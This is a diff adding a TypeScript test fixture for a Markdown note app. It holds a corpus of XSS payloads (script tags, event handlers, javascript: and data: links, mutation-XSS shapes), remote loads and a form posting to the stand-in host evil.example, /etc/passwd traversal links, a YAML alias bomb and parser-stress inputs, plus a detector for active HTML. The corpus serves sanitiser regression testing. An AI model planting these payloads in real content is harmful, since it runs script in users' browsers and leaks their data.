@@ -1,0 +1,418 @@
+/**
+ * The hostile-content regression corpus: exploits seen against Markdown note
+ * apps (script injection, event handlers, dangerous URL schemes, remote loads
+ * that leak that a note was opened, parser breakouts) and inputs that make
+ * parsers slow or crash (a 1 MB line, deep nesting, huge tables, control
+ * characters). Unit tests (reliability-hostile.test.ts) and the browser test
+ * (tests/e2e/hostile.spec.ts) write it to a temporary vault.
+ *
+ * Every script payload sets `window.__pwned` and opens a dialog, and every
+ * remote load points at evil.example, so a test can tell if one ever ran or
+ * left the machine. Each entry carries a marker word that occurs in its plain
+ * text, so a test can find it by search.
+ */
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
+
+export interface HostileEntry {
+  /** File name in the vault (vault root). */
+  name: string;
+  markdown: string;
+  description: string;
+  /** A Latin word found in the digest's searchable text (not in its front matter). */
+  marker: string;
+  /** The reader must show this entry's digest (false: the file is expected to be skipped, e.g. NUL bytes). */
+  indexed: boolean;
+}
+
+/** The remote host every hostile load points at. */
+export const EVIL_HOST = 'evil.example';
+const PWN = 'window.__pwned=1;alert(1)';
+
+function fm(title: string, extra = ''): string {
+  return `---\ntitle: ${JSON.stringify(title)}\ndate: 2026-02-06\ntags: [hostile]\n${extra}---\n`;
+}
+
+function entry(name: string, description: string, marker: string, body: string, front = fm(name)): HostileEntry {
+  return { name: `${name}.md`, description, marker, markdown: `${front}\n## ${marker} section\n\n${marker} text.\n\n${body}\n`, indexed: true };
+}
+
+function nestedList(depth: number): string {
+  let out = '';
+  for (let i = 0; i < depth; i++) out += `${'  '.repeat(i)}- level ${i}\n`;
+  return out;
+}
+
+function hugeTable(rows: number, cols: number): string {
+  const head = `| ${Array.from({ length: cols }, (_, c) => `列${c} col${c}`).join(' | ')} |`;
+  const rule = `|${' --- |'.repeat(cols)}`;
+  const body = Array.from({ length: rows }, (_, r) => `| ${Array.from({ length: cols }, (_, c) => `v${r}.${c} 值`).join(' | ')} |`);
+  return [head, rule, ...body].join('\n');
+}
+
+export const HOSTILE_CORPUS: readonly HostileEntry[] = [
+  entry(
+    'script-tags',
+    'inline <script> in body, heading, list and emphasis',
+    'hmkscript',
+    [
+      `<script>${PWN}</script>`,
+      `## Heading <script>${PWN}</script>`,
+      `- item <script src="http://${EVIL_HOST}/x.js"></script>`,
+      `*em <SCRIPT>${PWN}</SCRIPT>*`,
+      `<scr<script>ipt>${PWN}</scr</script>ipt>`,
+      `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'event-handlers',
+    'img onerror, body onload, div onmouseover, details ontoggle, autofocus onfocus',
+    'hmkevents',
+    [
+      `<img src=x onerror="${PWN}">`,
+      `<img src="x" ONERROR=${PWN}>`,
+      `<body onload="${PWN}">`,
+      `<div onmouseover="${PWN}" style="position:fixed;inset:0;z-index:9999">hover me</div>`,
+      `<details open ontoggle="${PWN}"><summary>s</summary>d</details>`,
+      `<input autofocus onfocus="${PWN}">`,
+      `<video><source onerror="${PWN}"></video>`,
+      `<a href="#" onclick="${PWN}">click</a>`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'dangerous-schemes',
+    'javascript:, data:text/html, file:, vbscript: in links and images, with case and whitespace tricks',
+    'hmkschemes',
+    [
+      `[js](javascript:${PWN})`,
+      `[JS upper](JaVaScRiPt:${PWN})`,
+      `[js tab](java\tscript:${PWN})`,
+      `[js entity](&#106;avascript:${PWN})`,
+      `[js spaces]( javascript:${PWN})`,
+      `![js image](javascript:${PWN})`,
+      `[data html](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
+      `![data html image](data:text/html,<script>${PWN}</script>)`,
+      `![data svg image](data:image/svg+xml,<svg onload="${PWN}"/>)`,
+      '[file](file:///etc/passwd)',
+      '![file image](file:///etc/passwd)',
+      '[vbscript](vbscript:msgbox(1))',
+      `<a href="javascript:${PWN}">raw js link</a>`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'autolinks-and-references',
+    'autolinks, GFM literal links, reference links and images to dangerous or remote targets',
+    'hmkautolinks',
+    [
+      `<javascript:${PWN}>`,
+      `<http://${EVIL_HOST}/autolink>`,
+      `www.${EVIL_HOST}/literal and https://${EVIL_HOST}/literal2`,
+      '[ref js][evil-js] and ![ref image][evil-img] and [ref data][evil-data]',
+      '',
+      `[evil-js]: javascript:${PWN}`,
+      `[evil-img]: http://${EVIL_HOST}/pixel.png "tracking pixel"`,
+      '[evil-data]: data:text/html,<script>window.__pwned=1</script>',
+    ].join('\n'),
+  ),
+  entry(
+    'remote-loads',
+    'remote images and media that would tell a server the note was opened',
+    'hmkremote',
+    [
+      `![pixel](http://${EVIL_HOST}/pixel.png)`,
+      `![protocol relative](//${EVIL_HOST}/p.png)`,
+      `<img src="https://${EVIL_HOST}/img.png">`,
+      `<img srcset="http://${EVIL_HOST}/a.png 1x, http://${EVIL_HOST}/b.png 2x">`,
+      `<picture><source srcset="http://${EVIL_HOST}/s.png"><img src="x"></picture>`,
+      `<video poster="http://${EVIL_HOST}/poster.png" src="http://${EVIL_HOST}/v.mp4"></video>`,
+      `<audio src="http://${EVIL_HOST}/a.mp3" autoplay></audio>`,
+      `<input type="image" src="http://${EVIL_HOST}/i.png">`,
+      `<link rel="prefetch" href="http://${EVIL_HOST}/prefetch">`,
+      `<a href="http://${EVIL_HOST}/ping" ping="http://${EVIL_HOST}/ping2">ping link</a>`,
+      `<table background="http://${EVIL_HOST}/bg.png"><tr><td>t</td></tr></table>`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'frames-and-forms',
+    'iframe, embed, object, form, base, meta refresh',
+    'hmkframes',
+    [
+      `<iframe src="http://${EVIL_HOST}/frame"></iframe>`,
+      `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
+      `<embed src="http://${EVIL_HOST}/embed.swf">`,
+      `<object data="http://${EVIL_HOST}/object"></object>`,
+      `<form action="http://${EVIL_HOST}/steal" method="post"><input name="q" value="secret"><button formaction="javascript:${PWN}">go</button></form>`,
+      `<base href="http://${EVIL_HOST}/">`,
+      `<meta http-equiv="refresh" content="0;url=http://${EVIL_HOST}/refresh">`,
+      `<link rel="stylesheet" href="http://${EVIL_HOST}/style.css">`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'svg-and-math',
+    'SVG with handlers, scripts and remote images; MathML mutation-XSS shapes',
+    'hmksvg',
+    [
+      `<svg onload="${PWN}"></svg>`,
+      `<svg><script>${PWN}</script></svg>`,
+      `<svg><image href="http://${EVIL_HOST}/svg.png"/><use href="http://${EVIL_HOST}/sprite.svg#a"/></svg>`,
+      `<svg><a xlink:href="javascript:${PWN}"><text>x</text></a><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>`,
+      `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math>`,
+      `<svg><style><img src=x onerror="${PWN}"></style></svg>`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'breakouts',
+    'closing tags that break out of pre, textarea, title, style, comments and CDATA',
+    'hmkbreakout',
+    [
+      `</pre><script>${PWN}</script>`,
+      `</textarea><script>${PWN}</script>`,
+      `</title><script>${PWN}</script>`,
+      `</style><script>${PWN}</script>`,
+      `</noscript><img src=x onerror="${PWN}">`,
+      `<!-- --><script>${PWN}</script><!-- -->`,
+      `<![CDATA[ ]]><script>${PWN}</script>`,
+      '```\n</code></pre><script>window.__pwned=1</script>\n```',
+      `\`</code><img src=x onerror="${PWN}">\``,
+    ].join('\n\n'),
+  ),
+  entry(
+    'diagram-labels',
+    'HTML and javascript: in mermaid / diagram / html code blocks',
+    'hmkdiagram',
+    [
+      '```mermaid',
+      `graph TD; A["<img src=x onerror=${PWN}>"] --> B[<script>${PWN}</script>]`,
+      `click A "javascript:${PWN}"`,
+      '```',
+      '',
+      '```html',
+      `<script>${PWN}</script><img src="http://${EVIL_HOST}/code.png">`,
+      '```',
+      '',
+      '```plantuml',
+      `@startuml\nAlice -> Bob: <img src=x onerror=${PWN}>\n@enduml`,
+      '```',
+    ].join('\n'),
+  ),
+  entry(
+    'css-loads',
+    '<style> with @import url(http://...), CSS background url(), expression()',
+    'hmkcss',
+    [
+      `<style>@import url(http://${EVIL_HOST}/import.css); body { background: url(http://${EVIL_HOST}/bg.png) }</style>`,
+      `<div style="background:url(http://${EVIL_HOST}/div-bg.png)">styled</div>`,
+      `<span style="background-image:url('//${EVIL_HOST}/span-bg.png'); width: expression(alert(1))">span</span>`,
+      `<p style="behavior:url(http://${EVIL_HOST}/x.htc)">behavior</p>`,
+      `<style>@font-face { font-family: x; src: url(http://${EVIL_HOST}/font.woff) }</style>`,
+    ].join('\n\n'),
+  ),
+  entry(
+    'front-matter-injection',
+    'HTML and script in title, description and tags; a ---js block would be evaluated by gray-matter',
+    'hmkfrontmatter',
+    'Body of a digest whose front matter is hostile.',
+    [
+      '---',
+      `title: "<script>${PWN}</script><img src=x onerror=${PWN}>"`,
+      'date: 2026-02-06',
+      `description: "</title><script>${PWN}</script>"`,
+      'tags:',
+      `  - "<img src=x onerror=${PWN}>"`,
+      `  - "javascript:${PWN}"`,
+      `cover: "http://${EVIL_HOST}/cover.png"`,
+      '---',
+      '',
+    ].join('\n'),
+  ),
+  {
+    name: 'front-matter-js.md',
+    description: '---js front matter that gray-matter would eval; must be refused',
+    marker: 'hmkfmjs',
+    indexed: true,
+    markdown: `---js\n{ title: (function(){ globalThis.__pwned = 1; return 'pwned' })() }\n---\n\n## hmkfmjs section\n\nhmkfmjs text.\n`,
+  },
+  {
+    name: 'yaml-alias-bomb.md',
+    description: 'YAML alias bomb (billion laughs) in front matter',
+    marker: 'hmkaliasbomb',
+    indexed: true,
+    markdown: [
+      '---',
+      'title: alias bomb',
+      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
+      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
+      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
+      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
+      'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
+      'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
+      'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
+      'h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
+      '---',
+      '',
+      '## hmkaliasbomb section',
+      '',
+      'hmkaliasbomb text.',
+      '',
+    ].join('\n'),
+  },
+  entry(
+    'links-outside-vault',
+    'relative links and images that climb out of the vault or name absolute paths',
+    'hmkoutside',
+    [
+      '[passwd](../../../../../../etc/passwd)',
+      '![passwd image](../../../../../../etc/passwd)',
+      '![absolute](/etc/passwd)',
+      '[windows](C:\\Windows\\win.ini)',
+      '[unc](\\\\evil.example\\share\\x)',
+      '![unc image](\\\\evil.example\\share\\x.png)',
+    ].join('\n\n'),
+  ),
+  entry('long-line', 'one line of 1 MB (mixed CJK and Latin)', 'hmklongline', `${'GPT-5.3-Codex 模型发布 '.repeat(1024 * 1024 / 20)}\n`),
+  entry(
+    'deep-nesting',
+    'deeply nested blockquotes and lists, emphasis runs (slow or stack-hungry for micromark)',
+    'hmkdeep',
+    [`${'>'.repeat(2000)} deep quote`, nestedList(150), `${'*'.repeat(3000)}a${'*'.repeat(3000)}`, `${'['.repeat(3000)}x${']('.repeat(3000)}`].join('\n\n'),
+  ),
+  entry(
+    'control-chars',
+    'C0 and C1 control characters, DEL, non-characters, BOMs and lone surrogates in text and headings',
+    'hmkcontrol',
+    [
+      `C0: ${Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('')} end`,
+      `## heading \u0007\u001b[31m red \u001b[0m \u007f`,
+      `C1: ${Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('')} end`,
+      'non-characters: \ufffe \uffff \ufeff BOM in the middle',
+      'lone surrogates: \ud800 x \udfff',
+    ].join('\n\n'),
+    fm('control \u0001\u0008\u001b title'),
+  ),
+  {
+    name: 'nul-bytes.md',
+    description: 'NUL bytes (a binary file with a .md name): skipped, never parsed',
+    marker: 'hmknul',
+    indexed: false,
+    markdown: `${fm('nul')}\n## hmknul section\n\nhmknul\u0000text\u0000\u0000 with NUL bytes.\n`,
+  },
+  entry(
+    'bidi-overrides',
+    'RTL/LTR overrides and isolates, zero-width characters (Trojan Source-style spoofing)',
+    'hmkbidi',
+    [
+      'file name spoof: invoice\u202Efdp.exe',
+      'isolates: \u2066abc\u2069 \u2067def\u2069 \u2068ghi\u2069',
+      'zero width: a\u200bb\u200cc\u200dd\u2060e',
+      `[\u202Etxt.exe](http://${EVIL_HOST}/bidi)`,
+    ].join('\n\n'),
+    fm('\u202Egnp.exe title'),
+  ),
+  entry('huge-table', 'a 1,000-row, 12-column GFM table', 'hmktable', hugeTable(1000, 12)),
+  {
+    name: '<img src=x onerror=alert(1)>.md',
+    description: 'a file name that is itself an HTML payload',
+    marker: 'hmkfilename',
+    indexed: true,
+    markdown: '## hmkfilename section\n\nhmkfilename text without front matter (the title comes from the file name).\n',
+  },
+];
+
+/** Writes the corpus into `dir` (flat); returns the file names written. */
+export function writeHostileVault(dir: string): string[] {
+  for (const e of HOSTILE_CORPUS) writeFileSync(path.join(dir, e.name), e.markdown);
+  return HOSTILE_CORPUS.map((e) => e.name);
+}
+
+// ---- Inertness of rendered HTML ----
+
+interface HtmlNode {
+  nodeName: string;
+  tagName?: string;
+  attrs?: { name: string; value: string }[];
+  childNodes?: HtmlNode[];
+  content?: HtmlNode;
+  value?: string;
+}
+
+/** Elements that run code, load content, submit or navigate by themselves. */
+const ACTIVE_ELEMENTS = new Set([
+  'script', 'iframe', 'frame', 'frameset', 'embed', 'object', 'applet', 'form', 'base', 'link', 'input', 'button',
+  'textarea', 'select', 'audio', 'video', 'source', 'track', 'portal', 'noscript', 'svg', 'math', 'template',
+]);
+/** Attributes whose value is a URL the browser may load or navigate to. */
+const URL_ATTRIBUTES = new Set([
+  'href', 'src', 'srcset', 'action', 'formaction', 'poster', 'data', 'background', 'cite', 'xlink:href', 'ping',
+  'longdesc', 'codebase', 'manifest', 'lowsrc', 'dynsrc', 'archive', 'icon',
+]);
+const SAFE_META = /^(charset|viewport|generator|color-scheme|description)$/i;
+const SCHEME_RE = /^([a-z][a-z0-9+.-]*):/i;
+
+function schemeOf(url: string): string | null {
+  // Browsers ignore control characters and whitespace inside a scheme ("java\tscript:").
+  const m = SCHEME_RE.exec(url.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''));
+  return m ? m[1]!.toLowerCase() : null;
+}
+
+function isRemote(url: string): boolean {
+  const trimmed = url.trim();
+  const scheme = schemeOf(trimmed);
+  return trimmed.startsWith('//') || trimmed.startsWith('\\\\') || (scheme !== null && scheme !== 'data' && scheme !== 'mailto');
+}
+
+function cssProblems(css: string): string[] {
+  const out: string[] = [];
+  if (/@import/i.test(css)) out.push('CSS @import');
+  for (const m of css.matchAll(/url\(\s*(['"]?)([^'")]*)\1\s*\)/gi)) {
+    if (!/^data:/i.test(m[2]!.trim())) out.push(`CSS url(${m[2]})`);
+  }
+  if (/expression\s*\(|behavior\s*:|-moz-binding/i.test(css)) out.push('CSS expression/behavior/binding');
+  return out;
+}
+
+/**
+ * What in a rendered HTML document could run code, load from the network or
+ * navigate on its own: a list of human-readable problems (empty when inert).
+ * Links (<a href="https://...">) are allowed: they only go anywhere when clicked.
+ */
+export async function findActiveHtml(html: string): Promise<string[]> {
+  const { parse } = await import('parse5');
+  const doc = parse(html) as unknown as HtmlNode;
+  const problems: string[] = [];
+  const walk = (node: HtmlNode): void => {
+    const tag = node.tagName?.toLowerCase();
+    if (tag !== undefined) {
+      if (ACTIVE_ELEMENTS.has(tag)) problems.push(`<${tag}> element`);
+      const attrs = node.attrs ?? [];
+      if (tag === 'meta') {
+        const httpEquiv = attrs.find((a) => a.name === 'http-equiv')?.value;
+        const name = attrs.find((a) => a.name === 'name')?.value;
+        const ok = httpEquiv !== undefined ? /^content-security-policy$/i.test(httpEquiv) : name === undefined || SAFE_META.test(name);
+        if (!ok) problems.push(`<meta ${httpEquiv !== undefined ? `http-equiv=${httpEquiv}` : `name=${name}`}>`);
+      }
+      for (const { name, value } of attrs) {
+        const attr = name.toLowerCase();
+        if (attr.startsWith('on')) problems.push(`<${tag} ${attr}=...> event handler`);
+        if (attr === 'srcdoc') problems.push(`<${tag} srcdoc>`);
+        if (attr === 'style') problems.push(...cssProblems(value).map((p) => `<${tag} style>: ${p}`));
+        if (!URL_ATTRIBUTES.has(attr)) continue;
+        const urls = attr === 'srcset' ? value.split(',').map((s) => s.trim().split(/\s+/)[0] ?? '') : [value];
+        for (const url of urls) {
+          const scheme = schemeOf(url.trim());
+          if (scheme !== null && ['javascript', 'vbscript', 'file'].includes(scheme)) problems.push(`<${tag} ${attr}="${url}">`);
+          else if (scheme === 'data' && !(tag === 'img' && attr === 'src' && /^data:image\/(png|jpeg|gif|webp);/i.test(url.trim()))) {
+            problems.push(`<${tag} ${attr}="${url.slice(0, 40)}">`);
+          } else if (!(tag === 'a' && attr === 'href') && isRemote(url)) problems.push(`<${tag} ${attr}="${url}"> loads remotely`);
+        }
+      }
+      if (tag === 'style') {
+        const css = (node.childNodes ?? []).map((c) => c.value ?? '').join('');
+        problems.push(...cssProblems(css).map((p) => `<style>: ${p}`));
+      }
+    }
+    for (const child of node.childNodes ?? []) walk(child);
+    if (node.content) walk(node.content);
+  };
+  walk(doc);
+  return problems;
+}
